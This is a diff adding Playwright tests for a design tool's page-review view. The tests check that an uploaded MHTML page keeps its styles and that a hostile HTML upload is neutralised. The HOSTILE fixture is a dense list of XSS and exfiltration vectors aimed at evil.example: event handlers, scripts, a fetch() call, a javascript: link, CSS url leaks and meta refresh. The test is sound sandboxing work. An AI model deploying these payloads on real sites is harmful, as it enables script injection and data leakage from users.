@@ -1,0 +1,185 @@
+import { writeHtml } from '@garnish/core/proof/node';
+import { derive } from '@garnish/core/derive/derive';
+import { sitePage } from '@garnish/core/proof/site';
+import type { Page } from '@playwright/test';
+import { BRACKWATER, copyOf, documentOf, expect, openArea, test, violationsOf } from './garnish.ts';
+import { servePlain } from './plain.ts';
+
+/** How everything on a page looks, as the browser has computed it; no boxes, as Chromium saves no fonts with a page. */
+const looks = (page: Page, frame: string): Promise<readonly (readonly [string, string])[]> =>
+  page.evaluate((selector) => {
+    const found =
+      selector === ''
+        ? document
+        : document.querySelector<HTMLIFrameElement>(selector)?.contentDocument;
+    if (!found?.defaultView) return [];
+    const { defaultView: view } = found;
+    return [...found.querySelectorAll('.site *')]
+      .filter((one) => !one.parentElement?.closest('svg') && one.getClientRects().length > 0)
+      .map((one) => {
+        const style = view.getComputedStyle(one);
+        const said = [
+          'font-family',
+          'font-size',
+          'font-weight',
+          'line-height',
+          'color',
+          'background-color',
+          'padding',
+          'margin',
+          'border-radius',
+          'box-shadow',
+          'gap',
+          'border-width',
+        ].map((name) => `${name}:${style.getPropertyValue(name)}`);
+        return [one.localName, said.join(';')] as const;
+      });
+  }, frame);
+
+const FRAME = 'iframe[title^="Page "]';
+
+test('a page saved by a browser as one file is shown as it was, and told by kind; one thing is told by pointing', async ({
+  page,
+  context,
+  request,
+}) => {
+  const id = await copyOf(request, BRACKWATER);
+  const system = await documentOf(request, id);
+  const plain = await context.newPage();
+  await plain.setViewportSize({ width: 1280, height: 900 });
+  await servePlain(
+    plain,
+    id,
+    new Map([['home', writeHtml(sitePage(system, derive(system), 'home'), () => '')]]),
+  );
+  await plain.goto('/plain/home');
+  await plain.evaluate(async () => {
+    await document.fonts.ready;
+  });
+  const was = await looks(plain, '');
+  expect(was.length).toBeGreaterThan(100);
+  // As Chromium saves a page.
+  const devtools = await context.newCDPSession(plain);
+  const { data } = await devtools.send('Page.captureSnapshot', { format: 'mhtml' });
+  await plain.close();
+
+  await openArea(page, id, 'review?view=page');
+  await page
+    .getByRole('group', { name: 'A page' })
+    .or(page.getByRole('region', { name: 'A page that exists' }))
+    .locator('input[type=file]')
+    .first()
+    .setInputFiles({
+      name: 'ferries.mhtml',
+      mimeType: 'multipart/related',
+      buffer: Buffer.from(data),
+    });
+  await page
+    .getByRole('group', { name: 'Width of the page, px' })
+    .getByRole('button', { name: '1280' })
+    .click();
+  const region = page.getByRole('region', { name: 'What is on it' });
+  await expect(region).toContainText('at 1280 px, light');
+  await expect.poll(async () => (await looks(page, FRAME)).length).toBe(was.length);
+  const is = await looks(page, FRAME);
+  const different = was.flatMap((one, index) =>
+    one[1] === is[index]?.[1] ? [] : [[one, is[index]]],
+  );
+  expect(different.slice(0, 5)).toEqual([]);
+  expect(await violationsOf(page, { within: 'main' })).toEqual([]);
+
+  // By kind: where a value stands is marked in the page.
+  await region.locator('summary', { hasText: 'corner' }).click();
+  const [corner] = await region.getByRole('list', { name: 'corner' }).getByRole('button').all();
+  await corner?.click();
+  await expect(page.locator('svg[data-marked]')).not.toHaveAttribute('data-marked', '0');
+  await expect(corner ?? region).toHaveAttribute('aria-pressed', 'true');
+
+  // One thing by pointing: its facts are those of the system that made it.
+  const heading = page.frameLocator(FRAME).locator('h1');
+  await heading.scrollIntoViewIfNeeded();
+  await heading.click();
+  const chosen = page.getByRole('region', { name: 'What is chosen' });
+  await expect(chosen.getByRole('row', { name: /^face/ })).toContainText('Archivo');
+  const size = await heading.evaluate((one) =>
+    Number(Number.parseFloat(getComputedStyle(one).fontSize).toFixed(2)),
+  );
+  await expect(chosen.getByRole('row', { name: /^text size/ })).toContainText(String(size));
+  // Opened again, it is still there.
+  await page.getByRole('button', { name: 'drift', exact: true }).click();
+  await expect(page.getByRole('region', { name: 'How much is the system’s' })).toContainText('%');
+  await page.getByRole('button', { name: 'page', exact: true }).click();
+  await expect(page.frameLocator(FRAME).locator('h1')).toBeVisible();
+});
+
+const HOSTILE = `<!doctype html><html lang="en" onload="top.pwned=1"><head>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/go">
+<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="image" href="https://evil.example/p.png">
+<link rel="icon" href="https://evil.example/i.png"><link rel="dns-prefetch" href="https://evil.example">
+<style>@import url(https://evil.example/b.css);
+@font-face { font-family: X; src: url(https://evil.example/x.woff2) }
+body { background: url(https://evil.example/bg.png); font-family: X }
+input[value^="a"] { background-image: image-set("https://evil.example/a.png" 1x) }
+h1::before { content: url(https://evil.example/c.png) } h1 { u\\72l: 1; cursor: u\\72l(https://evil.example/k.cur), auto }
+@media (prefers-color-scheme: dark) { body { color: rgb(250, 250, 250); background-color: rgb(1, 2, 3) } }
+</style></head><body onclick="top.pwned=2"><script>top.pwned = 3; fetch('https://evil.example/f')</script>
+<h1 onpointermove="top.pwned=4" style="background: url(https://evil.example/s.png); color: rgb(9, 8, 7)">Words that stay</h1>
+<img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x" onerror="top.pwned=5" alt="">
+<picture><source srcset="https://evil.example/3.webp"><img src="x" alt=""></picture>
+<video poster="https://evil.example/4.png" src="https://evil.example/5.mp4" autoplay></video>
+<iframe src="https://evil.example/6"></iframe><object data="https://evil.example/7"></object><embed src="https://evil.example/8">
+<svg><script>top.pwned=6</script><image href="https://evil.example/9.png"/><use href="https://evil.example/10.svg#a"/>
+<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/11.png" onerror="top.pwned=7" alt=""/></body></foreignObject></svg>
+<form action="https://evil.example/12"><input value="abc"><button>Send</button></form>
+<a href="javascript:top.pwned=8" ping="https://evil.example/13">Link</a><a href="https://evil.example/14" target="_top">Out</a>
+<table background="https://evil.example/15.png"><tr><td>Cell</td></tr></table><math><mtext><style><img src="https://evil.example/16.png" onerror="top.pwned=9"></style></mtext></math>
+</body></html>`;
+
+test('a page that would act and ask does neither: its words are shown, and nothing is requested', async ({
+  page,
+  context,
+  request,
+}) => {
+  const id = await copyOf(request, BRACKWATER);
+  await openArea(page, id, 'review?view=page');
+  const asked: string[] = [];
+  context.on('request', (one) => asked.push(one.url()));
+  await page
+    .locator('main input[type=file]')
+    .first()
+    .setInputFiles({
+      name: 'hostile.html',
+      mimeType: 'text/html',
+      buffer: Buffer.from(HOSTILE),
+    });
+  const inside = page.frameLocator(FRAME);
+  await expect(inside.getByRole('heading', { name: 'Words that stay' })).toBeVisible();
+  const region = page.getByRole('region', { name: 'What is on it' });
+  await expect(region).toBeVisible();
+  // Its style is there all the same, and what it asked for is told.
+  expect(await inside.locator('h1').evaluate((one) => getComputedStyle(one).color)).toBe(
+    'rgb(9, 8, 7)',
+  );
+  await region.locator('summary', { hasText: 'not among the files' }).click();
+  for (const address of ['a.css', 'b.css', 'x.woff2', '1.png'])
+    await expect(region.getByRole('list', { name: 'not among the files' })).toContainText(address);
+  for (const name of ['Send', 'Link', 'Out', 'Cell'])
+    await inside.getByText(name, { exact: true }).click({ force: true });
+  await page
+    .getByRole('group', { name: 'Theme of the page' })
+    .getByRole('button', { name: 'dark' })
+    .click();
+  await expect
+    .poll(() => inside.locator('body').evaluate((one) => getComputedStyle(one).color))
+    .toBe('rgb(250, 250, 250)');
+  await expect(region).toContainText('dark');
+  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
+  expect(page.url()).toContain('/review');
+  expect(
+    asked.filter(
+      (url) =>
+        !url.startsWith('data:') &&
+        !/^http:\/\/127\.0\.0\.1:\d+\/(?:reading\/|assets\/|api\/|proof\/)/.test(url),
+    ),
+  ).toEqual([]);
+});
